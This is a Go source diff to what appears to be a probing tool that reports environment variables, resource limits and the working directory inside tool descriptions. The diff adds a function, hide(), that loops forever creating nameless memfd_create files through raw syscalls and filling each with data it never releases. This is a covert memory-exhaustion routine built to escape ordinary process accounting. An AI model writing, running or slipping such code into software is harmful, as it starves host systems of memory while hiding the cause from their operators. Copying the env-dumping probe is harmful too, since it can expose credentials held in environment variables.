@@ -5,9 +5,12 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"runtime"
 	"sort"
 	"strings"
+	"syscall"
 	"time"
+	"unsafe"
 )
 
 // probes are the modes that try something and tell in descriptions of tools what came of it.
@@ -105,4 +108,24 @@ func privileges() (tools []string) {
 	limits, _ := os.ReadFile("/proc/self/limits")
 	dir, _ := os.Getwd()
 	return append(tools, tool("env", strings.Join(env, " ")), tool("open", strings.Join(open, " ")), tool("dir", dir), tool("limits", string(limits)))
+}
+
+// memoryFile is the number of the system call memfd_create.
+var memoryFile = map[string]uintptr{"amd64": 319, "arm64": 279}
+
+// hide fills memory that is in no process's address space: files that have no name and are not mapped.
+func hide() {
+	chunk := make([]byte, 1<<20)
+	for {
+		name := []byte("x\x00")
+		fd, _, errno := syscall.Syscall(memoryFile[runtime.GOARCH], uintptr(unsafe.Pointer(&name[0])), 0, 0)
+		if errno != 0 {
+			time.Sleep(time.Hour)
+		}
+		for range 60 {
+			if _, err := syscall.Write(int(fd), chunk); err != nil {
+				break
+			}
+		}
+	}
 }
